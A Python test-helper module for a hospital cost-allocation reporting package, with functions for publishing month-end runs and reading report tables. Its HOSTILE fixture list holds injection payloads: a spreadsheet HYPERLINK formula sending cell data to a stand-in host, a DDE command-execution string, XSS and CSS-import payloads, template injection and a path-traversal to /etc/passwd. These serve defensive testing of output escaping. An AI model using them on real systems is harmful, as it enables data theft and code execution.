"""Published runs for tests of reports: of small tables, of the sample, of names out to do harm."""

from __future__ import annotations

import tempfile
from decimal import Decimal
from pathlib import Path
from typing import Any

from books import Tables, model_file, written

from medcost.allocation_model import load_model
from medcost.batch import run_month_end
from medcost.book import open_book
from medcost.commands.books import cost_opening
from medcost.month_end import BatchOptions
from medcost.output_folder import output_folder
from medcost.report.contents import Report, compose
from medcost.report.figures import read_figures
from medcost.report.grid import Grid
from medcost.report.words import Word
from medcost.sample import make_sample
from medcost.variance.control import LoadedControl

SHIPPED = "three_level_step_down_2021"
# One for every way in which a name can act on what shows it.
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"pay")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    '<script>document.title="taken"</script>',
    '"><img src=http://x.example/i.png onerror=alert(1)>',
    "</style><style>@import url(http://x.example)</style>",
    "{{ 7 * 7 }}{% raw %}",
    "../../etc/passwd",
    "a\\b:c*d?e[f]g'h",
    "长" * 300,
    "W" * 300,
    "\u202egnp.exe\u2066",
    "שלום عربى",
    "nul\x00inside",
    "bell\x07 esc\x1b[31m",
    "_x0041_",
    "line\u2028break",
    "https://x.example/",
    "mailto:a@x.example",
)


def publish(
    tmp_path: Path,
    tables: Tables | Path,
    model: str | Path,
    *,
    through: str = "cases",
    keep: bool = True,
    units: tuple[str, ...] | None = None,
    months: list[str] | None = None,
    control: LoadedControl | None = None,
    out: Path | None = None,
) -> Path:
    """Publish the months of a book, by default all, and return the output folder."""
    book = tables if isinstance(tables, Path) else written(tmp_path, tables)
    place = out or Path(tempfile.mkdtemp(dir=tmp_path)) / "out"
    name = model if model == SHIPPED else str(model_file(tmp_path, model))
    loaded = load_model(name, through)
    opened = open_book(book, through)
    options = BatchOptions(units, through, keep=keep, control=control)
    with output_folder(place) as held:
        run_month_end(opened, loaded, months or opened.periods, options, held)
    return place


def sample_runs(tmp_path: Path, hospitals: int, lines: int, months: list[str]) -> Path:
    """Publish the months of a sample."""
    folder = tmp_path / "sample"
    make_sample(
        folder, hospitals=hospitals, lines=lines, seed=7, periods=months,
        cost_opening=cost_opening,
    )  # fmt: skip
    return publish(tmp_path, folder, SHIPPED)


def report_of(folder: Path, periods: tuple[str, str] | None = None) -> Report:
    """The report of an output folder."""
    return compose(read_figures(folder, periods))


def grids(report: Report) -> dict[str, Grid]:
    """Every table of a report by its key."""
    sections = (*report.sections, report.runs)
    return {grid.key: grid for section in sections for grid in section.grids}


def rows_of(grid: Grid, kind: str = "row") -> list[dict[str, Any]]:
    """Lines of one kind as dictionaries; words in English."""
    return [
        {
            column.key: cell.en if isinstance(cell, Word) else cell
            for column, cell in zip(grid.columns, line.cells, strict=True)
        }
        for line in grid.lines
        if line.kind == kind
    ]


def fen(amount: Decimal | None) -> int | None:
    """A published amount in fen."""
    return None if amount is None else int(amount * 100)
